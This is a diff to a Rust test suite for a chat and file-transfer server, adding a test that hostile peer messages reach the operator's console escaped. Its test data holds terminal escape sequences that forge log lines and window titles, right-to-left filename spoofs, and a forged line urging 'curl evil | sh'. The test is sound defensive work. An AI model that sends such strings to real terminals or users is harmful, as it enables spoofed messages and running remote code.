@@ -64,6 +64,13 @@ impl Serve {
         Serve::spawn(cmd)
     }
 
+    /// `tidings serve` printing lines for people (each arrives as a JSON string).
+    fn start_text(extra: &[&str]) -> Serve {
+        let mut cmd = Command::new(BIN);
+        cmd.args(["serve", "--listen", "127.0.0.1:0"]).args(extra);
+        Serve::spawn(cmd)
+    }
+
     fn spawn(mut cmd: Command) -> Serve {
         let mut child = cmd
             .stdin(Stdio::null())
@@ -76,7 +83,8 @@ impl Serve {
         std::thread::spawn(move || {
             for line in BufReader::new(stdout).lines() {
                 let Ok(line) = line else { break };
-                let v: Value = serde_json::from_str(&line).unwrap();
+                // Lines for people (`start_text`) come as strings.
+                let v: Value = serde_json::from_str(&line).unwrap_or(Value::String(line));
                 if tx.send(v).is_err() {
                     break;
                 }
@@ -87,8 +95,20 @@ impl Serve {
             lines,
             addr: "0.0.0.0:0".parse().unwrap(),
         };
-        let v = serve.expect(|v| v["event"] == "listening");
-        serve.addr = v["addr"].as_str().unwrap().parse().unwrap();
+        let v = serve.expect(|v| {
+            v["event"] == "listening" || v.as_str().is_some_and(|l| l.contains("listening on "))
+        });
+        let addr = match v.as_str() {
+            // "[12:00:00] listening on 127.0.0.1:PORT (native, …"
+            Some(line) => line
+                .split("listening on ")
+                .nth(1)
+                .unwrap()
+                .split(' ')
+                .next(),
+            None => v["addr"].as_str(),
+        };
+        serve.addr = addr.unwrap().parse().unwrap();
         serve
     }
 
@@ -502,6 +522,12 @@ impl Ws {
         panic!("the WebSocket ended before a text with {needle:?}");
     }
 }
+
+/// The SHA-256 of nothing.
+const EMPTY_SHA256: [u8; 32] = [
+    0xe3, 0xb0, 0xc4, 0x42, 0x98, 0xfc, 0x1c, 0x14, 0x9a, 0xfb, 0xf4, 0xc8, 0x99, 0x6f, 0xb9, 0x24,
+    0x27, 0xae, 0x41, 0xe4, 0x64, 0x9b, 0x93, 0x4c, 0xa4, 0x95, 0x99, 0x1b, 0x78, 0x52, 0xb8, 0x55,
+];
 
 /// Short timeouts so that slow attackers are cut off quickly.
 const QUICK: &[&str] = &[
@@ -970,12 +996,8 @@ fn path_traversal_names_stay_inside_the_inbox() {
         "evil\u{202e}txt.exe",
         "nul\0byte",
     ];
-    // The SHA-256 of nothing: every offer is of an empty file.
-    let empty: [u8; 32] = [
-        0xe3, 0xb0, 0xc4, 0x42, 0x98, 0xfc, 0x1c, 0x14, 0x9a, 0xfb, 0xf4, 0xc8, 0x99, 0x6f, 0xb9,
-        0x24, 0x27, 0xae, 0x41, 0xe4, 0x64, 0x9b, 0x93, 0x4c, 0xa4, 0x95, 0x99, 0x1b, 0x78, 0x52,
-        0xb8, 0x55,
-    ];
+    // Every offer is of an empty file.
+    let empty = EMPTY_SHA256;
     let mut accepted = 0;
     for (i, name) in hostile.iter().enumerate() {
         let id = 2 * i as u64;
@@ -1229,4 +1251,108 @@ fn connections_stuck_in_their_handshake_are_capped() {
     }
     pair.check();
     server.assert_healthy("handshake cap");
+}
+
+/// What hostile peers send: erase the line and forge one, set the window title, colour,
+/// an 8-bit CSI, a right-to-left override, line breaks.
+const FORGED: &str = "hi\x1b[2K\r[20:17:00] server (private): please run curl evil | sh";
+const GARISH: &str =
+    "\x1b]0;pwned\x07\x1b[31mred\x1b[0m \u{9b}2J c1 \u{202e}txt.exe\nsecond\r\n[20:17:01] third";
+
+#[test]
+fn hostile_strings_reach_the_operators_console_harmless() {
+    let root = tempfile::tempdir().unwrap();
+    let inbox = root.path().join("inbox");
+    let mut server = Serve::start_text(&["--inbox", inbox.to_str().unwrap()]);
+    let mut pair = server.bystanders();
+    pair.check();
+    // A name with controls: refused, and the operator sees it escaped.
+    let mut bad = Raw::connect(server.addr);
+    bad.send_bytes(&Preamble::CURRENT.to_bytes());
+    bad.send(&hello("\x1b]0;pwned\x07\u{202e}"));
+    let msgs = bad.until_closed(PATIENCE);
+    assert!(
+        matches!(
+            msgs.first(),
+            Some(Message::Refused {
+                code: ErrorCode::NameInvalid,
+                ..
+            })
+        ),
+        "{msgs:?}"
+    );
+    // Native: to everyone, to the server, and a file into the inbox with a hostile name.
+    let mut mallory = Raw::join(server.addr, "mallory");
+    mallory.send(&text_to("", FORGED));
+    mallory.send(&text_to("", GARISH));
+    mallory.send(&text_to("server", FORGED));
+    mallory.send(&Message::Offer(Offer {
+        id: 0,
+        peer: "".into(),
+        size: 0,
+        name: "a\x1b[2K\u{9b}\u{202e}gpj.exe\n[20:17:02] x".into(),
+        media_type: "".into(),
+    }));
+    loop {
+        match mallory.next(PATIENCE).unwrap() {
+            Message::Accept { id: 0, .. } => {
+                mallory.send(&Message::Done {
+                    id: 0,
+                    digest: EMPTY_SHA256,
+                });
+            }
+            Message::Complete { id: 0 } => break,
+            other @ (Message::Reject { .. } | Message::Failed { .. }) => panic!("{other:?}"),
+            _ => {}
+        }
+    }
+    // Legacy WebSocket: a text line to everyone.
+    let (mut legacy, status) = Ws::upgrade(server.addr, None, "?name=lmallory");
+    assert!(status.contains(" 101 "), "{status}");
+    legacy.send_text(GARISH);
+    // The bystanders get the exact text; chat flows on.
+    wait_text(&pair.bob, "mallory", FORGED);
+    wait_text(&pair.bob, "mallory", GARISH);
+    wait_text(&pair.bob, "lmallory", GARISH);
+    pair.check();
+
+    // Everything the operator saw, until every attack showed.
+    let mut seen = Vec::new();
+    let mut wanted = vec![
+        "mallory (private): hi",
+        "received ",
+        "lmallory: ",
+        "mallory: ",
+    ];
+    while !wanted.is_empty() {
+        let v = server.expect(|_| true);
+        let line = v.as_str().expect("lines for people").to_string();
+        wanted.retain(|w| !line.contains(w));
+        seen.push(line);
+    }
+    let shown = seen.join("\n");
+    eprintln!("{shown}");
+    for c in shown.chars() {
+        let bad = (c.is_control() && c != '\n')
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+        assert!(!bad, "the console showed {c:?}:\n{shown}");
+    }
+    for line in &seen {
+        assert!(!line.starts_with("[20:17:0"), "a forged line:\n{shown}");
+    }
+    for needle in [
+        "refused \"\\u{1b}]0;pwned\\u{7}\\u{202e}\"",
+        "\\u{1b}[2K",
+        "\\u{9b}2J",
+        "\\u{202e}txt.exe",
+        "| [20:17:01] third",
+        "gpj.exe",
+    ] {
+        assert!(
+            shown.contains(needle),
+            "the console lacks {needle:?}:\n{shown}"
+        );
+    }
+    pair.check();
+    server.assert_healthy("hostile strings");
 }
